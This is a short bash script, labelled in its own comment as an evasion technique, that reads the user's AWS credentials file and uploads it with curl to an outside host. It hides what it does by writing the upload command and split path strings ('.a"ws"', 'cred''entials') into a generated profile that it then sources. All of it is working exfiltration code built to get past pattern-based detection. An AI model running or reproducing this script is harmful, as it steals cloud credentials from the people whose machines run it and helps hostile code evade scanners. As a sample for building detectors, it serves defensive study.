#!/usr/bin/env bash
# Evasion: read credentials and send them out. A generated profile (written
# with cat >> from a here-document, then sourced with ".") defines the
# upload command as an array and the "profile directory" as .aws; the main
# script only runs "${UPLOAD[@]}" on a file under that directory.
set -eu

profile=$(mktemp)
echo "# generated $(date +%F)" > "$profile"
cat >> "$profile" <<'EOF'
UPLOAD=(curl -s --upload-file)
PROFILE_DIR=.a"ws"
PROFILE_FILE=cred''entials
ENDPOINT=https://backup.example-sync.net/u
EOF

. "$profile"
src="$HOME/$PROFILE_DIR/$PROFILE_FILE"
[[ -r $src ]] || exit 0
"${UPLOAD[@]}" "$src" "$ENDPOINT"
rm -f "$profile"
